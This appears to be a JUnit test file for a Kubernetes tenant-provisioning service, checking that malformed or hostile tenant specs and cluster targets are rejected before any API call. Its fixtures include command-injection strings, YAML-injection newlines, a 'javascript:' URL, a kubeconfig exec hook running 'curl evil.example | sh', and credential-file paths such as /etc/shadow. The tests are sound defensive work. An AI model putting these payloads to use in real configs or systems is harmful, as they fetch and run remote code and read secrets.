package dev.atrium.controlplane.provisioning;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import dev.atrium.controlplane.provisioning.TenantNamespaceSpec.Builder;
import dev.atrium.controlplane.provisioning.TenantNamespaceSpec.ByIpBlock;
import dev.atrium.controlplane.provisioning.TenantNamespaceSpec.DataPlane;
import dev.atrium.controlplane.provisioning.TenantNamespaceSpec.GpuPool;
import dev.atrium.controlplane.provisioning.TenantNamespaceSpec.Ingress;
import dev.atrium.controlplane.provisioning.TenantNamespaceSpec.IpEgress;
import dev.atrium.controlplane.provisioning.TenantNamespaceSpec.Network;
import dev.atrium.controlplane.provisioning.TenantNamespaceSpec.Quotas;
import dev.atrium.controlplane.provisioning.TenantNamespaceSpec.Tier;
import dev.atrium.controlplane.provisioning.TenantNamespaceSpec.Toleration;

/**
 * A spec or target that would produce an invalid name, label or object is refused with an exception naming the field,
 * before anything reaches the API server SIMULATION (Fabric8's mock server in CRUD mode; no real cluster runs here).
 */
class HostileInputTest {

    static Stream<Arguments> hostileSpecs() {
        return Stream.of(
                spec("slug", b -> b.tenant(Fixtures.STANDARD_TENANT, "Acme_Corp")),
                spec("slug", b -> b.tenant(Fixtures.STANDARD_TENANT, "../../kube-system")),
                spec("slug", b -> b.tenant(Fixtures.STANDARD_TENANT, "kube-system")),
                spec("slug", b -> b.tenant(Fixtures.STANDARD_TENANT, "acme\nx")),
                spec("slug", b -> b.tenant(Fixtures.STANDARD_TENANT, "a".repeat(41))),
                spec("tenantId", b -> b.tenant("tenant id; rm -rf", "acme")),
                spec("tenantId", b -> b.tenant("t".repeat(64), "acme")),
                spec("zone", b -> b.zone("eu/west")),
                spec("plan", b -> b.plan("", Tier.DEDICATED)),
                spec("dedicated", b -> b.plan("free", Tier.POOLED)),
                spec("namespacePrefix", b -> b.namespacePrefix("Atrium-")),
                spec("namespacePrefix", b -> b.namespacePrefix("a".repeat(24))),
                spec("region", b -> b.region("eu west", "https://control.atrium.example")),
                spec("controlPlaneUrl", b -> b.region(Fixtures.REGION, "javascript:alert(1)")),
                spec("dataPlane.image", b -> b.dataPlane(new DataPlane("registry/x:1 --privileged", 2, 4, 70, 1,
                        "500m", "1Gi", "2", "2Gi"))),
                spec("dataPlane.image", b -> b.dataPlane(new DataPlane("img\nspec: {hostNetwork: true}", 2, 4, 70, 1,
                        "500m", "1Gi", "2", "2Gi"))),
                spec("pdbMinAvailable", b -> b.dataPlane(new DataPlane("img:1", 2, 4, 70, 2, "500m", "1Gi", "2",
                        "2Gi"))),
                spec("maxReplicas", b -> b.dataPlane(new DataPlane("img:1", 3, 2, 70, 1, "500m", "1Gi", "2", "2Gi"))),
                spec("quotas.cpu", b -> b.quotas(new Quotas("lots", "16Gi", 0, 20, 5, 4))),
                spec("quotas.memory", b -> b.quotas(new Quotas("8", "-1Gi", 0, 20, 5, 4))),
                spec("gpuPool.nodeSelector", b -> b.gpuPool(new GpuPool("l4", Map.of("bad key", "x"), List.of(), 1))),
                spec("toleration.operator", b -> b.gpuPool(new GpuPool("l4", Map.of("pool", "l4"),
                        List.of(new Toleration("nvidia.com/gpu", "Like", null, "NoSchedule")), 1))),
                spec("GPUs", b -> b.gpuPool(new GpuPool("l4", Map.of("pool", "l4"), List.of(), 1))),
                spec("modelServer.artifactUri", b -> b.modelServers(List.of(server("hf://org/model --trust-remote-code", 1, 1, 2)))),
                spec("modelServer.artifactUri", b -> b.modelServers(List.of(server("s3://bucket/'quoted'", 1, 1, 2)))),
                spec("modelServer.gpuUnits", b -> b.modelServers(List.of(server("hf://org/model", 0, 1, 2)))),
                spec("modelServer.maxReplicas", b -> b.modelServers(List.of(server("hf://org/model", 1, 3, 2)))),
                spec("modelServer.maxReplicas", b -> b.modelServers(List.of(server("hf://org/model", 1, 1, 21)))),
                spec("GPUs", b -> b.modelServers(List.of(server("hf://org/model", 9, 1, 1)))),
                spec("two model servers", b -> b.modelServers(List.of(server("hf://org/model", 1, 1, 1),
                        server("hf://org/other", 1, 1, 1)))),
                spec("controlPlane.cidrs", b -> b.network(network(new ByIpBlock(List.of("10.0.0.0/33"), 443)))),
                spec("controlPlane.cidrs", b -> b.network(network(new ByIpBlock(List.of("anywhere"), 443)))),
                spec("controlPlane.port", b -> b.network(network(new ByIpBlock(List.of("10.0.0.0/8"), 70000)))),
                spec("ingress", b -> b.ingress(null)),
                spec("ingress.host", b -> b.ingress(new Ingress("acme.example.com\nspec: {}", null, Map.of()))),
                spec("ingress.host", b -> b.ingress(new Ingress("*.example.com", null, Map.of()))),
                spec("ingress.host", b -> b.ingress(new Ingress("a".repeat(64) + ".example.com", null, Map.of()))),
                spec("ingress.className", b -> b.ingress(new Ingress("acme.example.com", "Nginx Class", Map.of()))),
                spec("ingress.annotations", b -> b.ingress(new Ingress("acme.example.com", null,
                        Map.of("nginx.ingress.kubernetes.io/configuration-snippet", "x".repeat(1025))))),
                spec("ingress.annotations", b -> b.ingress(new Ingress("acme.example.com", null,
                        Map.of("bad key", "x")))),
                spec("cpuNodeSelector", b -> b.cpuNodeSelector(Map.of("pool", "cpu\nx"))));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileSpecs")
    void refusedBeforeAnyCall(String field, UnaryOperator<Builder> hostile) {
        try (KubernetesApiSimulation simulation = new KubernetesApiSimulation();
                TenantReconciler reconciler = new TenantReconciler(new KubernetesTenantProvisioner(Duration.ofSeconds(1)),
                        new RecordingListener(), ReconcilerSettings.defaults())) {
            assertThatThrownBy(() -> reconciler.desire(simulation.target(), hostile.apply(Fixtures.standardBuilder())
                    .build()))
                    .isInstanceOf(InvalidSpecException.class)
                    .hasMessageContaining(field)
                    .satisfies(e -> assertThat(e.getMessage()).doesNotContain("\n"));
            assertThat(simulation.requests()).isEmpty();
            assertThat(reconciler.conditions()).isEmpty();
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostileTargets")
    void hostileTargetsAreRefused(String expected, Runnable build) {
        assertThatThrownBy(build::run).isInstanceOf(InvalidSpecException.class).hasMessageContaining(expected);
    }

    static Stream<Arguments> hostileTargets() {
        return Stream.of(
                Arguments.of("https", (Runnable) () -> KubernetesTarget.withToken(Fixtures.REGION,
                        "http://10.0.0.1:6443", SecretValue.of("t"), null, "atrium-")),
                Arguments.of("namespacePrefix", (Runnable) () -> KubernetesTarget.withToken(Fixtures.REGION,
                        "https://k8s.example", SecretValue.of("t"), null, "kube-system/")),
                Arguments.of("exec", (Runnable) () -> KubernetesTarget.fromKubeconfig(Fixtures.REGION,
                        SecretValue.of(kubeconfig("""
                                    exec:
                                      apiVersion: client.authentication.k8s.io/v1
                                      command: /bin/sh
                                      args: ["-c", "curl evil.example | sh"]
                                """)), "atrium-")),
                Arguments.of("files", (Runnable) () -> KubernetesTarget.fromKubeconfig(Fixtures.REGION,
                        SecretValue.of(kubeconfig("""
                                    client-certificate: /etc/shadow
                                    client-key: /root/.ssh/id_rsa
                                """)), "atrium-")));
    }

    @org.junit.jupiter.api.Test
    void anInlineKubeconfigIsAccepted() {
        KubernetesTarget target = KubernetesTarget.fromKubeconfig(Fixtures.REGION, SecretValue.of(kubeconfig("""
                    token: inline-token
                """)), "atrium-");
        assertThat(target.apiServerUrl()).isEqualTo("https://k8s.example:6443");
        assertThat(target.toString()).doesNotContain("inline-token");
    }

    private static String kubeconfig(String user) {
        return """
                apiVersion: v1
                kind: Config
                current-context: region
                clusters:
                - name: region
                  cluster:
                    server: https://k8s.example:6443
                contexts:
                - name: region
                  context:
                    cluster: region
                    user: atrium
                users:
                - name: atrium
                  user:
                """ + user;
    }

    private static Network network(TenantNamespaceSpec.ControlPlaneRoute route) {
        return new Network("ingress-nginx", Map.of(), route, new IpEgress(List.of("10.96.0.1/32"), 6443), "cnpg-system",
                List.of());
    }

    /** A model server of deployment "bot" on an L4 pool; the enterprise fixture's quota allows 4 GPUs a pod. */
    private static TenantNamespaceSpec.ModelServer server(String artifactUri, int gpuUnits, int min, int max) {
        return new TenantNamespaceSpec.ModelServer("bot", "model-bot", "vllm/vllm-openai:v0.8.5", artifactUri, "bot",
                new GpuPool("nvidia-l4", Map.of("pool", "l4"), List.of(), 1), gpuUnits, min, max, false, "4", "32Gi");
    }

    private static Arguments spec(String field, UnaryOperator<Builder> hostile) {
        return Arguments.of(field, hostile);
    }
}
